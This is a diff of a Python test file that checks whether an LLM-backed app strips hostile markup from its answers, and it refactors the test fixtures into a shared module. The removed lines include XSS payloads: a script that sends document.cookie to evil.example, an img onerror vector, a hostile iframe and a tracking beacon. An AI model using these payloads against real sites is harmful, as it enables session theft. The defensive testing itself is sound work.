@@ -11,7 +11,6 @@ from __future__ import annotations
 
 import json
 import os
-import re
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -25,14 +24,10 @@ from sanad.app import Sanad
 from tests.api.conftest import ServerThread, wait_ready
 from tests.fixtures.embeddings import MemoEmbeddings
 from tests.fixtures.fake_openai import FakeOpenAI
+from tests.fixtures.hostile import BEACON, IFRAME, IMG, SCRIPT, live_markup
 from tests.fixtures.processes import run_sanad
 
 REPO = Path(__file__).resolve().parents[2]
-BEACON = "![](https://tracker.example/p.gif?x=1)"
-IMG = "<img src=x onerror=alert(1)>"
-IFRAME = '<iframe src="https://evil.example/frame"></iframe>'
-SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
-
 AR_ARTICLE = f"""# البرلمان يقر الميزانية
 
 صادق البرلمان على الميزانية الجديدة {BEACON} بأغلبية 80 صوتا يوم الثلاثاء. {IMG}
@@ -53,15 +48,6 @@ QUESTIONS = {
     "en": "What budget did the harbour board approve?",
 }
 LLM_ECHO = f"The board approved 45 million dollars [1]. {BEACON} {IMG} {IFRAME} {SCRIPT}"
-
-
-def live_markup(text: str) -> list[str]:
-    """Live markup found in ``text`` (a whole response body): must be empty."""
-    lowered = text.lower()
-    found = [m for m in ("<script", "<iframe", "onerror=", "<img") if m in lowered]
-    if re.search(r"!\[[^\]]*\]\(", text):
-        found.append("markdown image")
-    return found
 
 
 @dataclass
